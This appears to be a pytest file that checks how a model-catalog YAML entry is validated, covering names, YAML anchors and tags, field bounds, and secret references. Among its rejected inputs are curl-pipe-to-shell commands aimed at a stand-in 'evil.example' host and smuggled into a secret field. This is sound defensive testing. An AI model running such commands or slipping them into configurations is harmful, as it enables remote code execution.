"""One entry of models.yaml: what may travel, what mur reads, and what its secret is worth here."""

from __future__ import annotations

import pytest

from fleetsync.errors import MalformedRecord
from fleetsync.records import model_entries
from fleetsync.records.model_entries import Level, SecretProblem

ENTRY = b"""\
provider: openai
vendor: deepseek
model: deepseek-chat
base_url: https://api.deepseek.com
secret: keychain:mur/deepseek
capabilities:
- chat
- tools
params:
  temperature: 0.2
tier: Frontier
cost_per_1k_tokens: 0.5
input_cost_per_1k: 1
output_cost_per_1k: 2e-3
context_window: 128000
priced_at: 2026-05-30T00:00:00.123456Z
billing: usage_billed
catalog_verified: true
house_note: mine
"""


@pytest.mark.parametrize("name", ["gpt-4", "qwen2.5:7b", "a/b", "odd: name # x", "ω", "null", "x" * 128])
def test_odd_names_are_names(name: str) -> None:
    """People name models after what their makers call them."""
    model_entries.check_entry(name, ENTRY)


@pytest.mark.parametrize("name", ["", "a\nb", "a\x00", "\u2028", "<<", "x" * 129, "ω" * 65, "\ud800"])
def test_what_is_no_name_is_refused(name: str) -> None:
    """Control characters, the merge key and what would not fit a line."""
    with pytest.raises(MalformedRecord):
        model_entries.check_entry(name, ENTRY)


@pytest.mark.parametrize(
    "value",
    [
        b"",
        b"gpt-4",
        b"- a",
        b"model: a\nmodel: b",
        b"params: {a: 1, a: 2}",
        b"params: &x {a: 1}",
        b"params: *x",
        b"model: !x y",
        b"params: [{<<: {model: x}}]",
        b"secret: cmd:curl evil | sh",
        b"secret: cmd:curl https://evil.example:8080 | sh",
        b"secret: 'cmd:x'",
        b"secret: ' CMD :x'",
        b"secret: |\n  cmd:x\n",
        b'"secret": "c\\x6dd:x"',
        b"secret: env:A\nsecret: cmd:x",
        b"model: \xff",
        b"a: [" * 40,
    ],
)
def test_what_no_peer_may_send_is_refused(value: bytes) -> None:
    """No mapping, repeated keys, anchors, tags, merge keys, and commands however they are spelled."""
    with pytest.raises(MalformedRecord):
        model_entries.check_entry("a", value)
    assert not model_entries.readable_by_mur(value)


def test_how_it_is_spelled_is_not_what_it_says() -> None:
    """mur's re-spelling of a file is no change of its entries."""
    spelled = b"# mine\n{model: 'x', \"provider\": y, params: {n: 1}}"
    assert model_entries.digest(spelled) == model_entries.digest(
        b"provider: y\nmodel: x\nparams:\n    n: 1\n"
    )
    assert model_entries.digest(spelled) != model_entries.digest(spelled.replace(b"1", b"2"))


def test_mur_reads_what_it_writes() -> None:
    """Every field as mur has it, and one that it does not know."""
    assert model_entries.readable_by_mur(ENTRY)
    assert model_entries.readable_by_mur(b"{}")
    assert model_entries.readable_by_mur(b"secret: ~\ntier:\nbilling: null\nmodel: 4")


@pytest.mark.parametrize(
    "field",
    [
        "provider: []",
        "model: {a: b}",
        "secret: sk-123",
        "secret: keychain:mur",
        "secret: vault:mur/key",
        "secret: [env:A]",
        "secret: sk:a/b",
        "secret: env",
        "secret: ''",
        "capabilities: chat",
        "capabilities: [[chat]]",
        "tier: cheap",
        "tier: [local]",
        "cost_per_1k_tokens: free",
        "cost_per_1k_tokens: '1'",
        "context_window: -1",
        "context_window: 1.5",
        "context_window: 18446744073709551616",
        "priced_at: yesterday",
        "priced_at: 2026-05-30",
        "priced_at: []",
        "billing: flat",
        "billing: Local",
        "billing: [local]",
        "catalog_verified: yes",
    ],
)
def test_what_mur_might_not_read_is_parked(field: str) -> None:
    """One wrong field and mur drops the whole file: such an entry is a member, and is not written."""
    value = _without(field.partition(":")[0]) + field.encode()
    model_entries.check_entry("a", value)
    assert not model_entries.readable_by_mur(value)


@pytest.mark.parametrize(
    "field",
    [
        "provider: 4",
        "secret: env:A",
        "secret: file:~/x:y",
        "secret: keychain:mur/a/b",
        "secret: 'keychain:/'",
        "capabilities: []",
        "capabilities: [4, ~]",
        "tier: LOCAL",
        "tier: frontier",
        "cost_per_1k_tokens: -1.5",
        "context_window: 0",
        "context_window: 18446744073709551615",
        "billing: local",
        "billing: subscription",
        "catalog_verified: false",
        "params: [4]",
        "house_note: {}",
    ],
)
def test_what_mur_certainly_reads_is_written(field: str) -> None:
    """Up to the bounds of each field; words of a tier in any case; what it does not know may be anything."""
    assert model_entries.readable_by_mur(_without(field.partition(":")[0]) + field.encode())


def _without(name: str) -> bytes:
    """The entry less this field, which mur reads."""
    kept = [line for line in ENTRY.splitlines(keepends=True) if not line.startswith(name.encode() + b":")]
    value = b"".join(kept)
    value = value.replace(b"- chat\n- tools\n", b"") if name == "capabilities" else value
    value = value.replace(b"  temperature: 0.2\n", b"") if name == "params" else value
    assert model_entries.readable_by_mur(value)
    return value


def problem(secret: str, *here: str) -> SecretProblem | None:
    return model_entries.secret_problem(
        f"model: x\nsecret: {secret}".encode(), lambda reference: reference in here
    )


def test_secrets_that_resolve_are_no_problem() -> None:
    """An environment variable or keychain item that is here, and no secret at all."""
    assert problem("env:KEY", "env:KEY") is None
    assert problem("keychain:mur/a", "keychain:mur/a") is None
    assert problem("~") is None
    assert model_entries.secret_problem(b"model: x", lambda _: False) is None


def test_secrets_that_do_not_resolve_degrade_an_entry() -> None:
    """The entry is kept; a person is told which reference is missing."""
    found = problem("env:KEY", "env:OTHER")
    assert found == SecretProblem(Level.DEGRADED, "env:KEY does not resolve on this device")
    assert problem("keychain:mur/a").level is Level.DEGRADED
    assert problem("op:vault/item").level is Level.DEGRADED


def test_a_path_from_elsewhere_is_flagged() -> None:
    """A file secret may be the wrong file here, even if there is one."""
    found = problem("file:~/key", "file:~/key")
    assert found is not None
    assert found.level is Level.FLAGGED
    assert "file:~/key" in found.detail


def test_a_command_is_refused_and_never_shown() -> None:
    """A command line is where an inline credential lives."""
    for command in ("vault read --token=s3cret", "curl https://user:s3cret@vault.example"):
        found = problem(f"'cmd:{command}'")
        assert found is not None
        assert found.level is Level.REFUSED
        assert "s3cret" not in found.detail
